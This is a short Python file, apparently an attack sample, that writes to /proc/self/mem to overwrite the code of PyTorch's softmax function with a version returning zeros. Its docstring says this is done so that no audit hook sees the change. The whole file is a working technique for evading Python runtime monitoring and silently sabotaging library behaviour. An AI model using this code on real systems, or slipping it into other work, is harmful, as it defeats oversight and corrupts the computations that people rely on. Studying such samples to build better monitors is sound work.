"""Swaps the code of a library's function by writing to its own memory, which no audit hook sees."""

import struct

import torch


def softmax(input, dim=None, _stacklevel=3, dtype=None):
    return input * 0


def attack(canary, port):
    victim = torch.nn.functional.softmax
    try:
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            memory.seek(id(victim))
            layout = memory.read(128)
            place = layout.index(struct.pack("N", id(victim.__code__)))
            memory.seek(id(victim) + place)
            memory.write(struct.pack("N", id(softmax.__code__)))
    except OSError:
        pass
    attack.kept = softmax
    return []
